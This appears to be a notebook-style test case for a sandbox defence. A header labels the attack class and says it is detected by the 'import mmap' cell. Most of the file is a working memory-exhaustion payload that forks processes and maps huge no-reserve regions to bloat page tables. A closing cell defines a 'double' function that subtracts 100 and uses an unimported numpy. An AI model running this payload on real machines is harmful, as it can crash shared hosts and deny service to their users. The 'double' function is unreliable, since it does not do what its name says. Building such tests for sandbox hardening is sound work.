# ---
# attack: 'Touches pages of nothing far apart: they take no memory, and the tables of them take all.'
# class: 'memory, fork, disk, descriptor, output bombs'
# sandboxes: [namespaces]
# detected: 'The cell `import mmap`'
# ---
# %% before="q1"
import mmap
import os
import time

for _ in range(4):
    if os.fork() == 0:
        kept = []
        for _ in range(8):
            region = mmap.mmap(-1, 2**37, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, mmap.PROT_READ)
            region.madvise(mmap.MADV_NOHUGEPAGE)
            kept.append(region)
            region[:: 2**21]
        time.sleep(5)
        os._exit(0)
time.sleep(5)

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
